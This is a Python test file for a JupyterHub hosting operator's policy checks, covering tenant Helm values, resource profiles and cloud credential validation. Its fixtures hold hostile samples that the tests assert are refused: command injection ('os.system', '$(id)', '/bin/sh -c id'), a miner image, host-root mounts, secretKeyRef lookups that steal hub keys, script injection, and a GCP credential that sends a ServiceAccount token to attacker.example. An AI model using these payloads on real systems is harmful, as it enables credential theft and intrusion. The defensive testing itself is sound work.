from __future__ import annotations

import json

import pytest

from communityhub.api.quantities import parse_cpu, parse_memory
from communityhub.delivery import policy
from tests.unit.test_render import base_spec


def spec_with(membership: str, archetype: str, profiles: list[dict]) -> object:
    spec = base_spec(environment={"image": "quay.io/x/y:1", "profiles": profiles})
    spec.community.membership = membership  # type: ignore[assignment]
    spec.community.archetype = archetype  # type: ignore[assignment]
    return spec


def test_standard_profiles_pass() -> None:
    verdict = policy.environment(spec_with("general", "research", [{"name": "s", "cpu": 2, "memory": "8Gi"}]))
    assert verdict.status == "Unknown" and verdict.reason == "EnvironmentRendered"


@pytest.mark.parametrize(("membership", "archetype", "profile", "reason"), [
    ("essential", "research", {"name": "g", "cpu": 1, "memory": "4Gi", "gpu": 1}, "ProfileNotInTier"),
    ("essential", "research", {"name": "i", "cpu": 1, "memory": "4Gi", "image": "quay.io/a/b:1"},
     "ProfileNotInTier"),
    ("general", "education", {"name": "big", "cpu": 8, "memory": "4Gi"}, "ProfileExceedsLimits"),
    ("general", "education", {"name": "big", "cpu": 1, "memory": "32Gi"}, "ProfileExceedsLimits"),
])
def test_policy_rejections_say_why(membership: str, archetype: str, profile: dict, reason: str) -> None:
    verdict = policy.environment(spec_with(membership, archetype, [profile]))
    assert verdict.status == "False" and verdict.reason == reason
    assert profile["name"] in verdict.message


def test_essential_profile_count() -> None:
    profiles = [{"name": f"p{i}", "cpu": 1, "memory": "1Gi"} for i in range(4)]
    verdict = policy.environment(spec_with("essential", "education", profiles))
    assert verdict.reason == "TooManyProfiles"


def test_quantities() -> None:
    assert parse_memory("4Gi") == 4 * 2**30
    assert parse_memory("512M") == 512 * 10**6
    assert parse_memory("1.5Gi") == int(1.5 * 2**30)
    assert parse_cpu("500m") == 0.5 and parse_cpu(2) == 2.0 and parse_cpu("3920m") == 3.92
    with pytest.raises(ValueError):
        parse_memory("lots")


@pytest.mark.parametrize(("values", "named"), [
    ({"hub": {"extraConfig": {"x": "import os; os.system('id')"}}}, "hub.extraConfig.x"),
    ({"singleuser": {"image": {"name": "evil/miner"}}}, "singleuser.image.name"),
    ({"singleuser": {"profileList": [{"slug": "huge"}]}}, "singleuser.profileList"),
    ({"hub": {"config": {"Authenticator": {"allow_all": True}}}}, "hub.config.Authenticator.allow_all"),
    ({"hub": {"containerSecurityContext": {"privileged": True}}}, "hub.containerSecurityContext.privileged"),
    ({"singleuser": {"storage": {"extraVolumes": [{"hostPath": {"path": "/"}}]}}}, "singleuser.storage.extraVolumes"),
    ({"hub": {"resources": {"requests": {"cpu": 64}}}}, "hub.resources.requests.cpu"),
    # A key with dots cannot pose as an open path.
    ({"ingress": {"annotations.x": {"y": 1}}}, "ingress.annotations.x.y"),
])
def test_values_the_operator_owns_are_refused_by_name(values: dict, named: str) -> None:
    verdict = policy.hub_values(values)
    assert verdict is not None and verdict.status == "False" and verdict.reason == "ValuesNotAllowed"
    assert named in verdict.message


def test_open_values_pass_and_the_setting_widens_them() -> None:
    assert policy.hub_values({}) is None
    assert policy.hub_values({"singleuser": {"extraEnv": {"TZ": "UTC"}},
                              "hub": {"config": {"JupyterHub": {"concurrent_spawn_limit": 5}}}}) is None
    extra = {"hub": {"extraConfig": {"x": "c.Spawner.x = 1"}}}
    assert policy.hub_values(extra, ["hub.extraConfig"]) is None
    assert policy.hub_values({"anything": {"at": "all"}}, ["*"]) is None


def test_workload_identity_passes_only_the_clouds_federation_variables() -> None:
    from communityhub.delivery.policy import workload_identity_env
    environ = {"AWS_ROLE_ARN": "arn:aws:iam::1:role/ops", "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/token",
               "AWS_SECRET_ACCESS_KEY": "static", "TF_CLI_ARGS": "-x", "ARM_USE_OIDC": "true", "HOME": "/tmp"}
    assert workload_identity_env("aws", environ) == {"AWS_ROLE_ARN": "arn:aws:iam::1:role/ops",
                                                     "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/token"}
    assert workload_identity_env("azure", environ) == {"ARM_USE_OIDC": "true"}
    assert workload_identity_env("gcp", environ) == {}  # GKE's metadata server answers: nothing to pass


# ------------------------------------------------------------------ issue 29: what a tenant's values may not do
@pytest.mark.parametrize("env", [
    {"STEAL": {"valueFrom": {"secretKeyRef": {"name": "hub", "key": "values.yaml"}}}},
    {"TLS": {"valueFrom": {"secretKeyRef": {"name": "lab-tls", "key": "tls.key"}}}},
    [{"name": "STEAL", "valueFrom": {"secretKeyRef": {"name": "hub", "key": "hub.config.CryptKeeper.keys"}}}],
    {"POD": {"valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}}},
])
def test_user_environment_variables_are_plain_strings_never_a_secret_of_the_hub(env: object) -> None:
    """singleuser.extraEnv is open to tenants: a valueFrom there handed every user server the hub's release values,
    CryptKeeper keys, proxy token or TLS key (finding 4)."""
    refused = policy.hub_values({"singleuser": {"extraEnv": env}})
    assert refused is not None and refused.reason == "ValuesNotAllowed"
    assert "plain strings" in refused.message and "values.yaml" not in refused.message
    assert policy.hub_values({"singleuser": {"extraEnv": {"TZ": "UTC", "X": {"value": "1"}}}}) is None
    assert policy.hub_values({"singleuser": {"extraEnv": [{"name": "TZ", "value": "UTC"}]}}) is None
    # The provider may open it whole, valueFrom included (its own choice, in its class or settings).
    assert policy.hub_values({"singleuser": {"extraEnv": env}}, ["singleuser.extraEnv"]) is None


@pytest.mark.parametrize(("values", "named"), [
    ({"ingress": {"annotations": {"cert-manager.io/cluster-issuer": "letsencrypt"}}}, "cert-manager.io/cluster-issuer"),
    ({"ingress": {"annotations": {"nginx.ingress.kubernetes.io/server-snippet": "location / {}"}}}, "server-snippet"),
    ({"ingress": {"annotations": {"external-dns.alpha.kubernetes.io/hostname": "other.hubs.org"}}}, "external-dns"),
    ({"proxy": {"service": {"annotations": {"external-dns.alpha.kubernetes.io/hostname": "x"}}}}, "proxy.service"),
    ({"ingress": {"ingressClassName": "public-nginx"}}, "ingress.ingressClassName"),
    ({"hub": {"config": {"JupyterHub": {"template_vars": {"announcement": "<script>x()</script>"}}}}},
     "template_vars.announcement"),
    ({"cull": {"every": 2147483647}}, "cull.every"),
])
def test_names_templates_and_the_culler_are_the_classes(values: dict, named: str) -> None:
    """Ingress annotations pick issuers, DNS names and snippets cluster-wide; template_vars are rendered unescaped;
    cull.every switched the provider's culler off (findings 5, 6, 9)."""
    refused = policy.hub_values(values)
    assert refused is not None and refused.reason == "ValuesNotAllowed" and named in refused.message


def test_ingress_annotations_the_class_lists_are_open() -> None:
    body_size = {"ingress": {"annotations": {"nginx.ingress.kubernetes.io/proxy-body-size": "64m"}}}
    assert policy.hub_values(body_size, ingress_annotations=["nginx.ingress.kubernetes.io/proxy-body-size"]) is None
    refused = policy.hub_values({"ingress": {"annotations": {"cert-manager.io/cluster-issuer": "x"}}},
                                ingress_annotations=["nginx.ingress.kubernetes.io/proxy-body-size"])
    assert refused is not None and "the class allows nginx.ingress.kubernetes.io/proxy-body-size" in refused.message


# ------------------------------------------------------------------ issue 29: cloud credentials by shape
SA_KEY = {"type": "service_account", "project_id": "lab-project-1", "private_key_id": "abc",
          "private_key": "-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n",
          "client_email": "tf@lab-project-1.iam.gserviceaccount.com", "client_id": "1",
          "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
          "auth_provider_x509_cert_url": "https://www.googleapis.com/oauth2/v1/certs",
          "client_x509_cert_url": "https://www.googleapis.com/robot/v1/metadata/x509/tf%40lab-project-1"
                                  ".iam.gserviceaccount.com", "universe_domain": "googleapis.com"}
TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"


@pytest.mark.parametrize(("credential", "says"), [
    # Google's client reads the operator's ServiceAccount token and sends it to the attacker's token URL.
    ({"type": "external_account", "audience": "x", "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
      "token_url": "https://attacker.example/token", "credential_source": {"file": TOKEN_PATH}},
     "type 'external_account', not a service account key"),
    ({"type": "external_account", "credential_source": {"executable": {"command": "/bin/sh -c id"}}},
     "external_account"),
    ({"type": "authorized_user", "refresh_token": "r", "client_id": "c", "client_secret": "s"}, "authorized_user"),
    ({**SA_KEY, "token_uri": "https://attacker.example/token"}, "names its own token_uri"),
    ({**SA_KEY, "credential_source": {"file": TOKEN_PATH}}, "fields a service account key does not have"),
    ({**SA_KEY, "universe_domain": "attacker.example"}, "names its own universe_domain"),
    ({k: v for k, v in SA_KEY.items() if k != "private_key"}, "lacks private_key"),
    (TOKEN_PATH, "is not a service account key (JSON)"),  # the provider reads a path there as a file
])
def test_a_gcp_credential_is_a_service_account_key_or_nothing(credential: object, says: str) -> None:
    """Finding 3: keys alone were checked, so any credential configuration that points Google's client at a file,
    a command or a URL reached Terraform in the operator's container."""
    raw = credential if isinstance(credential, str) else json.dumps(credential)
    refused = policy.credential_env("gcp", {"GOOGLE_CREDENTIALS": raw.encode()}, "team/cloud")
    assert not isinstance(refused, dict) and refused.reason == "CredentialsSecretInvalid"
    assert says in refused.message and "attacker" not in refused.message and TOKEN_PATH not in refused.message
    assert policy.credential_env("gcp", {"GOOGLE_CREDENTIALS": json.dumps(SA_KEY).encode()}, "team/cloud") == {
        "GOOGLE_CREDENTIALS": json.dumps(SA_KEY)}


@pytest.mark.parametrize(("cloud", "data", "says"), [
    ("aws", {"AWS_ACCESS_KEY_ID": "AKIA0123456789AB", "AWS_SECRET_ACCESS_KEY": "s", "AWS_REGION": "x/../../etc"},
     "AWS_REGION is not an AWS region"),
    ("aws", {"AWS_ACCESS_KEY_ID": "/var/run/secrets/x", "AWS_SECRET_ACCESS_KEY": "s"},
     "AWS_ACCESS_KEY_ID is not an AWS access key id"),
    ("azure", {"ARM_CLIENT_ID": "https://attacker.example", "ARM_CLIENT_SECRET": "s",
               "ARM_TENANT_ID": "00000000-0000-0000-0000-000000000000",
               "ARM_SUBSCRIPTION_ID": "00000000-0000-0000-0000-000000000001"},
     "ARM_CLIENT_ID is not an Azure client id"),
    ("gcp", {"GOOGLE_PROJECT": "$(id)"}, "GOOGLE_PROJECT is not a GCP project id"),
])
def test_every_credential_variable_has_the_shape_of_its_cloud(cloud: str, data: dict[str, str], says: str) -> None:
    refused = policy.credential_env(cloud, {k: v.encode() for k, v in data.items()}, "team/cloud")
    assert not isinstance(refused, dict) and says in refused.message


@pytest.mark.parametrize("key", ["AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE", "AWS_PROFILE",
                                 "AWS_WEB_IDENTITY_TOKEN_FILE", "ARM_CLIENT_CERTIFICATE_PATH", "ARM_METADATA_HOST",
                                 "AWS_CONTAINER_CREDENTIALS_FULL_URI", "GOOGLE_APPLICATION_CREDENTIALS"])
def test_no_key_that_names_a_file_a_command_a_url_or_a_profile_reaches_terraform(key: str) -> None:
    cloud = {"AWS": "aws", "ARM": "azure", "GOO": "gcp"}[key[:3]]
    refused = policy.credential_env(cloud, {key: b"/var/run/secrets/kubernetes.io/serviceaccount/token"}, "t/c")
    assert not isinstance(refused, dict) and key in refused.message and "serviceaccount" not in refused.message
